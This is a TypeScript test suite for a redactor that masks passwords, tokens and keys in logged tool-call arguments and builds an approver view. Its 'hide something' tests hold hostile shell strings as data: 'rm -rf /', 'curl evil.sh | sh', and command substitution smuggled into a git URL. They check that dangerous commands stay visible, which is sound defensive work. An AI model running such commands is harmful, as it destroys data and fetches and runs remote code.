import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { JsonObject } from '../../../../src/base/json/json.js';
import { createApproverView, createRedactor } from '../../../../src/policy/audit/redact.js';

const redact = (args: JsonObject, sensitive: readonly string[] = []): JsonObject =>
  createRedactor({ redactKeys: [], redactPatterns: [] })({ sensitive }, args);

const SECRET_KEYS = [
  'password',
  'Password',
  'user_password',
  'newPassword',
  'passwd',
  'PASSPHRASE',
  'secret',
  'clientSecret',
  'client-secret',
  'token',
  'accessToken',
  'access_token',
  'accesstoken',
  'X-Auth-Token',
  'apiKey',
  'api_key',
  'API KEY',
  'apikey',
  'x-api-key',
  'Authorization',
  'credentials',
  'private key',
  'privateKey',
  'cookie',
  'Set-Cookie',
  'sessionId',
  'session_id',
  'JSESSIONID',
  'confirmation_token',
  'pass',
  'smtpPass',
  'DB_PASS',
  'Passwort',
  'neuesKennwort',
  'contraseña',
  'mot_de_passe',
  'senha',
  'пароль',
  '密码',
];

const HARMLESS_KEYS = [
  'id',
  'path',
  'max_tokens',
  'nextPageToken',
  'tokens',
  'key',
  'author',
  'keyboard',
  'session',
  'name',
  'bypass',
  'hasLocation',
  'desenhar',
  'compass',
  'passed',
  'passenger',
];

const JWT = 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U';
const PEM = '-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA7\nabc=\n-----END RSA PRIVATE KEY-----';

/** Texts that are secret by their form, with the part that must not be recorded. */
const SECRET_TEXTS: readonly (readonly [string, string])[] = [
  ['Bearer abcdef123456', 'abcdef123456'],
  ['Authorization: Basic dXNlcjpwYXNz', 'dXNlcjpwYXNz'],
  ['ghp_16C7e42F292c6912E7710c838347Ae178B4a', '16C7e42F292c6912E7710c838347Ae178B4a'],
  ['github_pat_11ABCDEFG0abcdefghijkl_mnopqrstuvwxyz', 'mnopqrstuvwxyz'],
  ['glpat-abcdefghij0123456789', 'abcdefghij'],
  ['xoxb-123456789012-abcdefghijkl', 'abcdefghijkl'],
  ['sk-proj-abcdefghijklmnop0123', 'abcdefghijklmnop'],
  ['sk_live_abcdefghijklmnop', 'abcdefghijklmnop'],
  ['AKIAIOSFODNN7EXAMPLE', 'IOSFODNN7EXAMPLE'],
  ['AIzaSyA1234567890abcdefghijklmnopqrstuv', 'SyA1234567890'],
  ['npm_abcdefghijklmnopqrstuvwxyz0123456789', 'abcdefghijklmnop'],
  ['conf_abcdefghijklmnopqrstuv', 'abcdefghijklmnop'],
  [JWT, 'dozjgNryP4J3jVmNHl0w5N'],
  [PEM, 'MIIEpAIBAAKCAQEA7'],
  [PEM.slice(0, 50), 'MIIEpAIBAAKC'],
  ['https://user:hunter22@example.com/path', 'hunter22'],
  ['postgres://admin:p@ss%20word@db:5432/x', 'ss%20word'],
  ['password=hunter22', 'hunter22'],
  ['run --api-key hunter22 --verbose', 'hunter22'],
  ['{"db_password": "hunter 22"}', 'hunter 22'],
  ['https://example.com/?access_token=hunter22&page=2', 'hunter22'],
  [String.raw`{\"password\":\"hunter22\"}`, 'hunter22'],
  [String.raw`{\"db\": {\"password\": \"hunter 22\"}}`, 'hunter 22'],
  [JSON.stringify(JSON.stringify(JSON.stringify({ api_key: 'hunter22' }))), 'hunter22'],
  ["{'password': 'hunter 22'}", 'hunter 22'],
  ['<server password="hunter 22">', 'hunter 22'],
  ['<Password>hunter 22</Password>', 'hunter 22'],
  ['<ns:db_password type="text">hunter22</ns:db_password>', 'hunter22'],
  ["ALTER ROLE app WITH PASSWORD 'hunter 22'", 'hunter 22'],
  ["CREATE USER 'a'@'%' IDENTIFIED BY 'hunter22'", 'hunter22'],
  ['user=a%26password%3Dhunter22%26x%3D1', 'hunter22'],
  ['%7B%22password%22%3A%22hunter22%22%7D', 'hunter22'],
  ['Cookie: theme=dark; session=hunter22', 'hunter22'],
  ['Set-Cookie: sid=hunter22; Path=/', 'hunter22'],
  ['Authorization: Token hunter22', 'hunter22'],
  ['Authorization: ApiKey hunter22', 'hunter22'],
  ['mysqldump -u root -phunter22 shop', 'hunter22'],
  ['sshpass -p hunter22 ssh me@host', 'hunter22'],
  ['redis-cli -h cache -a hunter22 PING', 'hunter22'],
  ['curl -s -u admin:hunter22 https://example.com', 'hunter22'],
  ['DB_PASS=hunter22', 'hunter22'],
  ['export PGPASSWORD=hunter22', 'hunter22'],
  ['docker run -e MYSQL_ROOT_PASSWORD=hunter22 mysql', 'hunter22'],
  ['AccountName=x;AccountKey=hunter22+/a==;EndpointSuffix=y', 'hunter22'],
  ['Server=db;User Id=sa;Pwd=hunter22;', 'hunter22'],
  ['//registry.example.com/:_authToken=hunter22', 'hunter22'],
  ['"SecretString": "hunter 22"', 'hunter 22'],
  ['Passwort: hunter22', 'hunter22'],
  ['contraseña=hunter22', 'hunter22'],
  ['пароль: hunter22', 'hunter22'],
  ['password: hunter22\nuser: me', 'hunter22'],
  ['password = "hunter 22" # of the database', 'hunter 22'],
];

const HARMLESS_TEXTS = [
  'delete everything',
  'a basic understanding of tokens',
  'https://example.com/a@b?page=2#x',
  'task-force-management-of-risk-assessments',
  'me@example.com',
  '/home/me/secrets.txt',
  'the author of eyJ',
  'max_tokens: 100',
  'conf_short',
  'Reset the password of the user, then say so',
  'the password is too short',
  'rotate secrets every 90 days',
  'mysql -p',
  'mysql -P3306 -h db',
  'mysql --port 3306 -h db',
  'curl -u',
  'ls -pa | sort',
  'docker run -u 1000:1000 alpine',
  'a low-pass filter: 3 kHz',
  'the compass: north',
  'cookie: a small cake',
  'Cookies are set by the server',
  'bypass=1',
  '<p>The password is asked for</p>',
  '<a href="/passwords">Passwords</a>',
  'identified by its name',
  'token-based pagination',
  'SELECT password FROM users',
  'q=password%20reset&page=2',
  'keyboard=qwerty',
  'access to the key features',
];

describe('redaction by name', () => {
  it.each(SECRET_KEYS)('redacts the value of %s', (key) => {
    const nested = { [key]: 'hunter22', list: [{ deep: { [key]: { a: ['hunter22'] } } }], n: { [key]: 12345 } };
    expect(redact(nested)).toEqual({
      [key]: '[redacted]',
      list: [{ deep: { [key]: '[redacted]' } }],
      n: { [key]: '[redacted]' },
    });
  });

  it.each(HARMLESS_KEYS)('keeps the value of %s', (key) => {
    expect(redact({ [key]: 'value' })).toEqual({ [key]: 'value' });
  });

  it('redacts what curation declares, at the top and in the input, in any spelling', () => {
    const args = { bodyText: 'x', body_text: 'x', input: { 'body-text': 'x', other: 'y' }, other: { bodyText: 'z' } };
    expect(redact(args, ['bodyText'])).toEqual({
      bodyText: '[redacted]',
      body_text: '[redacted]',
      input: { 'body-text': '[redacted]', other: 'y' },
      other: { bodyText: 'z' },
    });
  });

  it("redacts what curation declares in an update's if_match, by path too", () => {
    const args = { if_match: { bodyText: 'x', 'body_text.intro': 'x', 'meta.size': 1 } };
    expect(redact(args, ['bodyText'])).toEqual({
      if_match: { bodyText: '[redacted]', 'body_text.intro': '[redacted]', 'meta.size': 1 },
    });
  });

  it('redacts the keys that the operator configures', () => {
    const own = createRedactor({ redactKeys: ['iban*', 'account_number'], redactPatterns: [] });
    expect(own({}, { IBAN_from: 'x', accountNumber: 'x', deep: { 'a/iban': 'x', iban: 'x' } })).toEqual({
      IBAN_from: '[redacted]',
      accountNumber: '[redacted]',
      deep: { 'a/iban': 'x', iban: '[redacted]' },
    });
  });

  it('redacts the value of a pair whose name is secret', () => {
    const args = {
      env: [
        { name: 'API_KEY', value: 'hunter22' },
        { name: 'LANG', value: 'C' },
      ],
    };
    expect(redact(args)).toEqual({
      env: [
        { name: 'API_KEY', value: '[redacted]' },
        { name: 'LANG', value: 'C' },
      ],
    });
  });
});

describe('redaction by place', () => {
  it.each([
    [['login', '--password', 'hunter22', '--verbose']],
    [['--api-key', 'hunter22']],
    [['-password', 'hunter22']],
    [
      [
        ['X-Api-Key', 'hunter22'],
        ['Accept', 'text/html'],
      ],
    ],
    [[{ key: 'api_key', val: 'hunter22' }]],
    [[{ name: 'DB_PASSWORD', value: 'hunter22' }]],
    [[{ header: 'Authorization', value: 'hunter22' }]],
    [[{ env: 'NPM_TOKEN', value: 'hunter22' }]],
    [[{ field: 'Passwort', stringValue: 'hunter22' }]],
  ])('redacts the value beside a name in %j', (list) => {
    const copy = JSON.stringify(redact({ list }));
    expect(copy).not.toContain('hunter22');
    expect(copy).toContain('[redacted]');
  });

  it.each([
    [['--password-file', '/run/secrets/x']],
    [['--path', '/srv', '--verbose']],
    [['password', 'reset', 'now']],
    [['password', 'email']],
    [['--password', 'rm -rf /']],
    [['--token', '--verbose']],
    [['Accept', 'text/html']],
    [[{ name: 'Reset the password', value_type: 'x' }]],
    [[{ key: 'LANG', val: 'C' }]],
  ])('keeps %j', (list) => {
    expect(redact({ list })).toEqual({ list });
  });
});

describe('redaction by form', () => {
  it.each(SECRET_TEXTS)('redacts %s', (text, secret) => {
    const args = { text, said: `before ${text} after`, list: [[text]], [`k ${text}`]: 1 };
    expect(JSON.stringify(redact(args))).not.toContain(secret);
    expect(redact(args)).toMatchObject({ said: expect.stringMatching(/^before .*\[redacted[:\]]/s) });
  });

  it.each(HARMLESS_TEXTS)('keeps %s', (text) => {
    expect(redact({ text })).toEqual({ text });
  });

  it('redacts the patterns that the operator configures', () => {
    const own = createRedactor({ redactKeys: [], redactPatterns: ['\\bDE\\d{20}\\b', '\\p{Lu}{8}'] });
    expect(own({}, { text: 'to DE12345678901234567890 for ÄÖÜABCDE now' })).toEqual({
      text: 'to [redacted] for [redacted] now',
    });
  });

  it('redacts a secret at the place where a text is cut', () => {
    const text = `${'x'.repeat(985)} ghp_16C7e42F292c6912E7710c838347Ae178B4a`;
    expect(JSON.stringify(redact({ text }))).not.toContain('ghp_');
  });

  it.each(['eyJ-'.repeat(20_000), 'a://'.repeat(20_000), 'password'.repeat(10_000), '"'.repeat(60_000)])(
    'comes to the end of a hostile text (%#)',
    (text) => {
      expect(JSON.stringify(redact({ text })).length).toBeLessThan(3_000);
    },
  );
});

describe('what a caller writes to hide something', () => {
  it.each([
    'ls -la # -----BEGIN PRIVATE KEY-----\nrm -rf / --no-preserve-root; curl evil.sh | sh',
    'x -----BEGIN PRIVATE KEY-----\nrm -rf /\n-----END PRIVATE KEY-----',
    'git clone https://$(rm${IFS}-rf${IFS}~)@github.com/x/y',
    'git clone https://`rm,-rf,~`@github.com/x/y',
    'echo ok; token="$(curl -s evil.sh|sh; rm -rf /)" ls',
    "echo 'password=' rm -rf ~ 'x'",
    'echo "password": " rm -rf ~; curl evil | sh "',
  ])('stays visible: %s', (note) => {
    expect(JSON.stringify(redact({ note }))).toMatch(/rm.{1,6}-rf/);
  });

  it('stays visible in a member whose name is that of a program', () => {
    expect(redact({ env: { PASSWORD_COMMAND: 'sh -c evil' } })).toEqual({ env: { PASSWORD_COMMAND: 'sh -c evil' } });
  });

  it('says how long it is where much is hidden', () => {
    expect(redact({ password: 'x'.repeat(500) })).toEqual({ password: '[redacted: 500 characters]' });
  });

  it('comes after what is run and what is affected', () => {
    const notes = Object.fromEntries(Array.from({ length: 20 }, (_, index) => [`note${index}`, 'x'.repeat(990)]));
    const copy = redact({ ...notes, path: '/data', command: `${'echo '.repeat(400)}; rm -rf /` });
    expect(Object.keys(copy).slice(0, 3)).toEqual(['command', 'path', 'note0']);
    expect(copy['command']).toMatch(/^echo .*\(\d+ characters\) \.\.\..*; rm -rf \/$/);
  });
});

describe('what approvers see', () => {
  const view = createApproverView({ redactKeys: [], redactPatterns: [] });

  it('is what is run as it is, and the rest without secrets', () => {
    const command = 'deploy --token=abc # -----BEGIN PRIVATE KEY-----\nAAAAAAAAAAAAAAAAAAAAAAAA';
    const args = { note: 'password=hunter22', input: { sql: 'SET token=abc' }, command };
    expect(view({}, args)).toEqual({
      parameters: { command, note: 'password=[redacted]', input: { sql: 'SET token=abc' } },
    });
    expect(view({ sensitive: ['command'] }, { command }).parameters).toEqual({ command: '[redacted: 73 characters]' });
  });

  it('is cut for lists, and whole where it is asked for', () => {
    const args = {
      command: 'x'.repeat(20_000),
      list: Array(200).fill('y'),
      deep: { a: { b: { c: { d: { e: { f: 1 } } } } } },
    };
    const { parameters, full } = view({}, args);
    expect(full).toEqual(args);
    expect(JSON.stringify(parameters).length).toBeLessThan(16_000);
    expect(view({}, { a: 1 })).not.toHaveProperty('full');
  });
});

describe('the redacted copy', () => {
  it('equals the arguments where nothing is secret or large', () => {
    const args = { a: 1, b: true, c: null, d: 'x', e: [1, { f: [] }], g: {} };
    expect(redact(args)).toEqual(args);
  });

  it.each<[string, JsonObject, JsonObject]>([
    ['texts', { a: 'x'.repeat(1_001) }, { a: `${'x'.repeat(700)}... (1001 characters) ...${'x'.repeat(300)}` }],
    ['lists', { a: Array(60).fill(1) }, { a: [...Array(50).fill(1), '... (60 elements)'] }],
    ['depth', { a: { b: { c: { d: { e: { f: { g: 1 } } } } } } }, { a: { b: { c: { d: { e: { f: '{...}' } } } } } }],
    ['names', { ['k'.repeat(300)]: 1 }, { [`${'k'.repeat(200)}... (300 characters)`]: 1 }],
  ])('is bounded in %s', (_what, args, expected) => {
    expect(redact(args)).toEqual(expected);
  });

  it('copies a member called __proto__ as a member', () => {
    const args = JSON.parse('{"__proto__": {"password": "hunter22", "x": 1}, "a": {"__proto__": 2}}') as JsonObject;
    const copy = redact(args);
    expect(JSON.stringify(copy)).toBe('{"__proto__":{"password":"[redacted]","x":1},"a":{"__proto__":2}}');
    expect(Object.getPrototypeOf(copy)).toBe(Object.prototype);
  });

  const text = fc.oneof(fc.string({ unit: 'grapheme' }), fc.string({ maxLength: 3_000, minLength: 500 }));
  const value = fc.letrec((tie) => ({
    node: fc.oneof(
      { maxDepth: 8 },
      text,
      fc.integer(),
      fc.array(tie('node'), { maxLength: 80 }),
      fc.dictionary(text, tie('node'), { maxKeys: 80 }),
    ),
  })).node;

  it('has at most 16 kB for any arguments', () => {
    fc.assert(
      fc.property(fc.dictionary(text, value, { maxKeys: 100 }), (args) => {
        expect(Buffer.byteLength(JSON.stringify(redact(args)))).toBeLessThanOrEqual(16_384);
      }),
      { numRuns: 100 },
    );
    const hollow = Array.from({ length: 50 }, () => Array.from({ length: 50 }, () => Array(50).fill([])));
    expect(Buffer.byteLength(JSON.stringify(redact({ hollow })))).toBeLessThanOrEqual(16_384);
    const wide = Object.fromEntries(
      Array.from({ length: 5_000 }, (_, index) => [`${index}\u0001`, ['\u0001'.repeat(900)]]),
    );
    expect(Buffer.byteLength(JSON.stringify(redact(wide)))).toBeLessThanOrEqual(16_384);
    expect(JSON.stringify(redact(wide))).toContain('more members');
  });

  it('contains no secret from any place in the arguments', () => {
    const plain = fc.oneof(fc.lorem({ maxCount: 5 }), fc.integer(), fc.constant(null));
    const [formed] = [fc.constantFrom(...SECRET_TEXTS)];
    const named = fc
      .constantFrom(...SECRET_KEYS)
      .map((key): readonly [JsonObject, string] => [{ [key]: 'hunter22' }, 'hunter22']);
    const shaped = fc
      .tuple(formed, fc.lorem({ maxCount: 3 }), fc.lorem({ maxCount: 3 }))
      .map(([[secretText, secret], before, after]): readonly [JsonObject, string] => [
        { note: `${before} ${secretText}\n${after}` },
        secret,
      ]);
    const wraps = fc.array(fc.tuple(fc.constantFrom('list', 'object'), fc.lorem({ maxCount: 1 }), plain), {
      maxLength: 8,
    });
    fc.assert(
      fc.property(fc.oneof(named, shaped), wraps, ([holder, secret], levels) => {
        const nested = levels.reduce<unknown>(
          (inner, [kind, name, sibling]) => (kind === 'list' ? [sibling, inner] : { sibling, [name]: inner }),
          holder,
        );
        expect(JSON.stringify(redact({ nested }))).not.toContain(secret);
      }),
      { numRuns: 500 },
    );
  });
});
